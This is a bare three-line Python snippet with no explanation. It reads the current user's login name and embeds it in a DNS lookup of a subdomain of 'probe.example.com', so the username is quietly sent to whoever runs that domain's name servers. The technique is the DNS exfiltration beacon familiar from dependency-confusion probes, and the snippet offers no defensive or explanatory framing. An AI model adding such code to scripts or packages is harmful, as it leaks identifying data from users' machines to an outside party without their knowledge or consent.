import getpass
import socket

socket.gethostbyname(getpass.getuser() + ".probe.example.com")
